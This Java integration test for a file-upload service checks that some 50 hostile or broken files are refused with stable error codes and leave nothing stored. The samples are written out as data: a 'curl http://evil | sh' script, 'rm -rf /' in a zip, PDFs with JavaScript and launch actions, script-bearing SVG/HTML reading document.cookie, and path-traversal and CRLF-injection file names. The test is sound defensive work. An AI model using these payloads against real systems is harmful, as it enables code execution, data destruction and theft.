package org.cloudwindow.server.material;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.cloudwindow.server.storage.ObjectStore;
import org.cloudwindow.server.support.ApiClient;
import org.cloudwindow.server.support.IntegrationTest;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/**
 * A corpus of hostile or broken files, all made here: each is refused with a stable problem code,
 * and nothing of it stays behind, neither an object nor a row.
 */
@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileFileIT {

  private static final String SLOT = "ID_CARD";

  @LocalServerPort
  int port;

  @Autowired
  ObjectStore store;

  @Autowired
  JdbcClient jdbc;

  private MaterialCase theCase;
  private TusClient tus;

  record Hostile(String what, byte[] content, String fileName, String declaredType, String code) {}

  @BeforeAll
  void open() {
    theCase = new MaterialCase(port, "worker-liangzhu");
    tus = new TusClient(port, theCase.worker);
  }

  @AfterAll
  void close() {
    theCase.close();
  }

  @Test
  void everyHostileFileIsRefusedWithItsCodeAndLeavesNothing() {
    List<Hostile> corpus = corpus();
    assertThat(corpus).hasSizeGreaterThanOrEqualTo(40);
    List<String> failures = new ArrayList<>();
    for (Hostile hostile : corpus) {
      HttpResponse<String> refused = send(hostile);
      String code = code(refused);
      if (!hostile.code().equals(code)) {
        failures.add(hostile.what() + ": expected " + hostile.code() + " but " + refused.statusCode() + " " + refused.body());
      }
    }
    assertThat(failures).isEmpty();
    assertNothingStored();
  }

  @Test
  void protocolMistakesAreRefusedWithTheirCodes() {
    byte[] jpeg = Files.jpeg(40, 30, 1);
    String meta = TusClient.encode(TusClient.meta(SLOT, "a.jpg", "image/jpeg"));
    assertThat(code(tus.create(theCase.caseId, jpeg.length, meta, "Tus-Resumable", "0.2.2"))).isEqualTo("material.tus-version");
    assertThat(code(tus.create(theCase.caseId, jpeg.length, "slot %%%"))).isEqualTo("material.bad-upload");
    HttpResponse<String> created = tus.create(theCase.caseId, jpeg.length, meta);
    String location = created.headers().firstValue("Location").orElseThrow();
    assertThat(code(tus.patch(location, 0, jpeg, "application/json"))).isEqualTo("material.patch-type");
    assertThat(code(tus.patch(location, 5, jpeg))).isEqualTo("material.offset-mismatch");
    byte[] longer = Arrays.copyOf(jpeg, jpeg.length + 10);
    assertThat(code(tus.patch(location, 0, longer))).isEqualTo("material.bad-upload");
    assertThat(tus.head(location).headers().firstValue("Upload-Offset")).hasValue("0");
    assertThat(tus.terminate(location).statusCode()).isEqualTo(204);
    assertThat(tus.head(location).statusCode()).isEqualTo(404);
    assertNothingStored();
  }

  @Test
  void aJpegWithAZipAppendedIsKeptWithoutItsTail() {
    try (MaterialCase other = new MaterialCase(port, "worker-liangzhu")) {
      byte[] polyglot = concat(Files.jpeg(64, 48, 3), zip("payload.sh", "rm -rf /"));
      HttpResponse<String> done = new TusClient(port, other.worker).upload(other.caseId, polyglot,
          TusClient.meta("BANK_CARD", "卡.jpg", "image/jpeg"), 1 << 20);
      assertThat(done.statusCode()).as(done.body()).isEqualTo(204);
      JsonNode page = other.page("BANK_CARD", 0);
      byte[] stored = other.content(page);
      assertThat(new String(stored, StandardCharsets.ISO_8859_1)).doesNotContain("PK\u0003\u0004").doesNotContain("payload.sh");
      assertThat(page.path("contentType").asString()).isEqualTo("image/jpeg");
    }
  }

  private HttpResponse<String> send(Hostile hostile) {
    Map<String, String> meta = new java.util.LinkedHashMap<>();
    if (hostile.fileName() != null) {
      meta.put("slot", SLOT);
      meta.put("filename", hostile.fileName());
    }
    if (hostile.declaredType() != null) {
      meta.put("filetype", hostile.declaredType());
    }
    if (hostile.what().equals("unknown slot")) {
      meta.put("slot", "NUCLEAR_CODES");
    }
    if (hostile.what().equals("no slot")) {
      meta.remove("slot");
    }
    HttpResponse<String> response = tus.upload(theCase.caseId, hostile.content(), meta, 1 << 20);
    return response;
  }

  private static String code(HttpResponse<String> response) {
    if (!response.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json")) {
      return "status " + response.statusCode();
    }
    return ApiClientJson.read(response.body()).path("code").asString();
  }

  private void assertNothingStored() {
    theCase.assertNothingStored(store, jdbc);
  }

  private static List<Hostile> corpus() {
    byte[] jpeg = Files.jpeg(200, 150, 9);
    byte[] png = Files.png(120, 90, 9);
    byte[] pdf = Files.pdf(d -> { });
    List<Hostile> c = new ArrayList<>();
    c.add(new Hostile("executable renamed .jpg", exe(), "photo.jpg", "image/jpeg", "material.type-not-allowed"));
    c.add(new Hostile("executable without declared type", exe(), "身份证.jpg", null, "material.type-not-allowed"));
    c.add(new Hostile("ELF binary renamed .png", concat(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, new byte[120]),
        "scan.png", null, "material.type-not-allowed"));
    c.add(new Hostile("shell script renamed .pdf", ascii("#!/bin/sh\ncurl http://evil | sh\n"), "a.pdf", null,
        "material.type-not-allowed"));
    c.add(new Hostile("zero bytes", new byte[0], "empty.jpg", "image/jpeg", "material.empty"));
    c.add(new Hostile("truncated JPEG", Arrays.copyOf(jpeg, jpeg.length / 2), "half.jpg", "image/jpeg", "material.damaged"));
    c.add(new Hostile("JPEG header then garbage", concat(new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff, (byte) 0xe0},
        ascii("garbage garbage garbage garbage")), "g.jpg", null, "material.damaged"));
    c.add(new Hostile("truncated PNG", Arrays.copyOf(png, 60), "half.png", "image/png", "material.damaged"));
    c.add(new Hostile("decompression-bomb PNG 100000x100000", pngHeader(100_000, 100_000), "bomb.png", "image/png",
        "material.image-too-large"));
    c.add(new Hostile("decompression-bomb PNG 60000x1000", pngHeader(60_000, 1000), "wide.png", null,
        "material.image-too-large"));
    c.add(new Hostile("PNG with bad IDAT", pngHeader(10, 10), "bad.png", null, "material.damaged"));
    c.add(new Hostile("PDF with JavaScript open action", Files.pdf(d -> {
      PDActionJavaScript js = new PDActionJavaScript("app.alert('x')");
      d.getDocumentCatalog().setOpenAction(js);
    }), "js.pdf", "application/pdf", "material.pdf-active-content"));
    c.add(new Hostile("PDF with document-level JavaScript", Files.pdf(d -> {
      PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
      org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode tree = new org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode();
      tree.setNames(Map.of("boot", new PDActionJavaScript("this.exportDataObject()")));
      names.setJavascript(tree);
      d.getDocumentCatalog().setNames(names);
    }), "doc-js.pdf", null, "material.pdf-active-content"));
    c.add(new Hostile("PDF with an embedded file", Files.pdf(d -> {
      try {
        PDEmbeddedFile file = new PDEmbeddedFile(d, new java.io.ByteArrayInputStream(exe()));
        PDComplexFileSpecification spec = new PDComplexFileSpecification();
        spec.setFile("run.exe");
        spec.setEmbeddedFile(file);
        PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
        tree.setNames(Map.of("run.exe", spec));
        PDDocumentNameDictionary names = new PDDocumentNameDictionary(d.getDocumentCatalog());
        names.setEmbeddedFiles(tree);
        d.getDocumentCatalog().setNames(names);
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    }), "attached.pdf", null, "material.pdf-active-content"));
    c.add(new Hostile("PDF with a launch action", Files.pdf(d -> {
      PDActionLaunch launch = new PDActionLaunch();
      launch.setFile(new PDComplexFileSpecification());
      d.getDocumentCatalog().setOpenAction(launch);
    }), "launch.pdf", null, "material.pdf-active-content"));
    c.add(new Hostile("PDF with a JavaScript link", Files.pdf(d -> {
      try {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setAction(new PDActionJavaScript("app.launchURL('http://evil')"));
        d.getPage(0).getAnnotations().add(link);
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    }), "link.pdf", null, "material.pdf-active-content"));
    c.add(new Hostile("PDF with page additional action", Files.pdf(d -> {
      org.apache.pdfbox.cos.COSDictionary aa = new org.apache.pdfbox.cos.COSDictionary();
      org.apache.pdfbox.cos.COSDictionary action = new org.apache.pdfbox.cos.COSDictionary();
      action.setName(COSName.S, "JavaScript");
      action.setString(COSName.JS, "1");
      aa.setItem(COSName.O, action);
      d.getPage(0).getCOSObject().setItem(COSName.AA, aa);
    }), "aa.pdf", null, "material.pdf-active-content"));
    c.add(new Hostile("PDF with a submit-form action", Files.pdf(d -> {
      org.apache.pdfbox.cos.COSDictionary action = new org.apache.pdfbox.cos.COSDictionary();
      action.setName(COSName.S, "SubmitForm");
      d.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action);
    }), "submit.pdf", null, "material.pdf-active-content"));
    c.add(new Hostile("PDF with a file attachment annotation", Files.pdf(d -> {
      org.apache.pdfbox.cos.COSDictionary annotation = new org.apache.pdfbox.cos.COSDictionary();
      annotation.setName(COSName.TYPE, "Annot");
      annotation.setName(COSName.SUBTYPE, "FileAttachment");
      org.apache.pdfbox.cos.COSArray annots = new org.apache.pdfbox.cos.COSArray();
      annots.add(annotation);
      d.getPage(0).getCOSObject().setItem(COSName.ANNOTS, annots);
    }), "annot.pdf", null, "material.pdf-active-content"));
    c.add(new Hostile("PDF with XFA form", Files.pdf(d -> {
      org.apache.pdfbox.cos.COSDictionary form = new org.apache.pdfbox.cos.COSDictionary();
      form.setString(COSName.getPDFName("XFA"), "<xdp/>");
      d.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
    }), "xfa.pdf", null, "material.pdf-active-content"));
    c.add(new Hostile("encrypted PDF", Files.pdf(d -> {
      try {
        d.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission()));
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    }), "locked.pdf", null, "material.pdf-encrypted"));
    c.add(new Hostile("PDF header then garbage", ascii("%PDF-1.7\n" + "x".repeat(500)), "junk.pdf", "application/pdf",
        "material.damaged"));
    c.add(new Hostile("PDF without pages", ascii("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"),
        "nopages.pdf", null, "material.damaged"));
    c.add(new Hostile("SVG with script", ascii("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\">"
        + "<script>alert(document.cookie)</script></svg>"), "id.svg", "image/svg+xml", "material.type-not-allowed"));
    c.add(new Hostile("SVG renamed .png", ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        "id.png", "image/png", "material.type-not-allowed"));
    c.add(new Hostile("HTML", ascii("<!DOCTYPE html><html><body><script>fetch('/api/me')</script></body></html>"),
        "page.html", "text/html", "material.type-not-allowed"));
    c.add(new Hostile("HTML declared as JPEG", ascii("<html><script>alert(1)</script></html>"), "x.jpg", "image/jpeg",
        "material.type-not-allowed"));
    c.add(new Hostile("HTML then PDF", concat(ascii("<html><body>hi</body></html>\n"), pdf), "poly.pdf", null,
        "material.type-not-allowed"));
    c.add(new Hostile("plain text", ascii("身份证号 330203194001011234\n".repeat(10)), "id.txt", null,
        "material.type-not-allowed"));
    c.add(new Hostile("ZIP archive renamed .jpg", zip("a.txt", "hello"), "a.jpg", null, "material.type-not-allowed"));
    c.add(new Hostile("ZIP with a JPEG appended", concat(zip("b.txt", "hello"), jpeg), "b.jpg", null,
        "material.type-not-allowed"));
    c.add(new Hostile("GIF", ascii("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;"), "a.gif", null,
        "material.type-not-allowed"));
    c.add(new Hostile("BMP", Files.encode(Files.picture(8, 8, 1), "bmp"), "a.bmp", null, "material.type-not-allowed"));
    c.add(new Hostile("TIFF", concat(new byte[] {'I', 'I', 42, 0, 8, 0, 0, 0}, new byte[64]), "a.tif", null,
        "material.type-not-allowed"));
    // Converted where heif-convert is installed (always in CI), refused in words where it is not.
    c.add(new Hostile("HEIC header without an image", heic(), "IMG_0001.HEIC", "image/heic",
        HeifTools.present() ? "material.damaged" : "material.heic-unsupported"));
    c.add(new Hostile("AVIF", avif(), "a.avif", null, "material.type-not-allowed"));
    c.add(new Hostile("WebP header then garbage", concat(ascii("RIFF"), new byte[] {40, 0, 0, 0}, ascii("WEBPVP8 "),
        new byte[32]), "w.webp", null, "material.damaged"));
    c.add(new Hostile("21 MB file", new byte[21 * 1024 * 1024], "big.jpg", "image/jpeg", "material.too-large"));
    c.add(new Hostile("name climbing out: ../../etc/passwd", jpeg, "../../etc/passwd", null, "material.bad-name"));
    c.add(new Hostile("name with backslashes", jpeg, "..\\..\\windows\\win.ini", null, "material.bad-name"));
    c.add(new Hostile("very long Unicode name", jpeg, "身份证正面".repeat(60) + ".jpg", null, "material.bad-name"));
    c.add(new Hostile("right-to-left override name", jpeg, "photo\u202Egpj.exe", null, "material.bad-name"));
    c.add(new Hostile("name with a NUL", jpeg, "id\u0000.jpg", null, "material.bad-name"));
    c.add(new Hostile("name with a newline", jpeg, "id\r\nSet-Cookie: x.jpg", null, "material.bad-name"));
    c.add(new Hostile("blank name", jpeg, "   ", null, "material.bad-name"));
    c.add(new Hostile("no slot", jpeg, "a.jpg", null, "material.bad-upload"));
    c.add(new Hostile("unknown slot", jpeg, "a.jpg", null, "material.unknown-slot"));
    c.add(new Hostile("PNG declared as JPEG", png, "a.jpg", "image/jpeg", "material.type-mismatch"));
    c.add(new Hostile("PDF declared as PNG", pdf, "a.png", "image/png", "material.type-mismatch"));
    c.add(new Hostile("JPEG declared as PDF", jpeg, "a.pdf", "application/pdf", "material.type-mismatch"));
    return c;
  }

  private static byte[] exe() {
    byte[] exe = new byte[512];
    exe[0] = 'M';
    exe[1] = 'Z';
    ByteBuffer.wrap(exe, 0x3c, 4).order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(0x80);
    System.arraycopy(new byte[] {'P', 'E', 0, 0}, 0, exe, 0x80, 4);
    return exe;
  }

  /** A PNG that declares its size and then has an empty, broken image data chunk. */
  private static byte[] pngHeader(int width, int height) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
    ByteBuffer ihdr = ByteBuffer.allocate(13).putInt(width).putInt(height).put((byte) 8).put((byte) 2).put((byte) 0)
        .put((byte) 0).put((byte) 0);
    chunk(out, "IHDR", ihdr.array());
    chunk(out, "IDAT", new byte[] {0x78, (byte) 0x9c, 0x03, 0x00});
    chunk(out, "IEND", new byte[0]);
    return out.toByteArray();
  }

  private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
    out.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
    byte[] name = ascii(type);
    out.writeBytes(name);
    out.writeBytes(data);
    CRC32 crc = new CRC32();
    crc.update(name);
    crc.update(data);
    out.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
  }

  private static byte[] heic() {
    return isoMedia("heic", "mif1heic");
  }

  private static byte[] avif() {
    return isoMedia("avif", "mif1avif");
  }

  /** An ISO media file type box naming the brand, and nothing after it worth decoding. */
  private static byte[] isoMedia(String brand, String compatible) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(new byte[] {0, 0, 0, 24});
    out.writeBytes(ascii("ftyp" + brand));
    out.writeBytes(new byte[] {0, 0, 0, 0});
    out.writeBytes(ascii(compatible));
    out.writeBytes(new byte[200]);
    return out.toByteArray();
  }

  private static byte[] zip(String name, String text) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      zip.putNextEntry(new ZipEntry(name));
      zip.write(text.getBytes(StandardCharsets.UTF_8));
      zip.closeEntry();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  private static byte[] ascii(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }

  /** Reads a JSON body the way ApiClient does. */
  private static final class ApiClientJson {
    private static final tools.jackson.databind.json.JsonMapper JSON = tools.jackson.databind.json.JsonMapper.builder().build();

    static JsonNode read(String body) {
      return JSON.readTree(body);
    }
  }
}
